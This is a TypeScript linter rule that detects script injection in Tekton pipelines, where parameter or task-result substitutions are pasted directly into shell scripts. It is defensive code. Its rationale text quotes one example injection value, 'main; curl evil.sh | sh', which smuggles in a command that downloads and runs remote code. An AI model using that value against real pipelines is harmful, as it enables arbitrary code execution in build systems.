import { asArray } from '../../private/containers';
import { envNameFor } from '../../private/substitutions';
import { Severity } from '../rule';
import { containerRule } from '../rule-builders';
import { RuleId } from '../rule-id';

/**
 * Tekton substitutions whose value comes from a run's caller or another task:
 * `$(params.x)`, `$(params["x"])`, `$(tasks.t.results.r)`, `$(steps.s.results.r)`.
 */
const UNTRUSTED_SUBSTITUTION = /\$\(\s*(params(\.|\[)|tasks\.[^.)\s]+\.results|steps\.[^.)\s]+\.results)[^)]*\)/;

const SHELLS = new Set(['sh', 'bash', 'ash', 'dash', 'zsh', 'ksh', 'busybox']);

/** The first untrusted substitution in `text`, if any. */
function findInlineSubstitution(text: string): string | undefined {
  return UNTRUSTED_SUBSTITUTION.exec(text)?.[0];
}

/** The shell program text of a container run as `sh -c '<text>'`, if it is one. */
function shellCommandText(container: any): string[] {
  const argv = [...asArray(container?.command), ...asArray(container?.args)].map(String);
  // `env sh -c ...` runs the shell too
  if (argv.length > 0 && argv[0].split('/').pop() === 'env') argv.shift();
  if (argv.length === 0) return [];
  const program = argv[0].split('/').pop() ?? '';
  const c = argv.indexOf('-c');
  return SHELLS.has(program) && c > 0 ? argv.slice(c + 1) : [];
}

/** Params and results reach scripts only through env. */
export const SCRIPT_INJECTION = containerRule(
  {
    id: RuleId.SCRIPT_INJECTION,
    severity: Severity.HIGH,
    title: 'Params and results reach scripts only through env',
    rationale:
      'Tekton pastes a substitution into the script text before the shell parses it, so a param value such as "main; curl evil.sh | sh" runs as code. Through env it stays data.',
    fix: 'Pass the value through env and quote the variable in the script.',
    relaxable: false,
  },
  (view) => {
    const places: Array<{ property: string; text: string }> = [];
    if (typeof view.container?.script === 'string') places.push({ property: 'script', text: view.container.script });
    for (const text of shellCommandText(view.container)) places.push({ property: 'args', text });
    return places.flatMap(({ property, text }) => {
      const found = findInlineSubstitution(text);
      if (!found) return [];
      const env = envNameFor(found);
      return [{
        property,
        value: found,
        problem: 'pastes a substitution into shell code',
        fix: `Pass it through env instead: env: [{ name: '${env}', value: '${found}' }] and use "$${env}" (quoted) in the script.`,
      }];
    });
  },
);
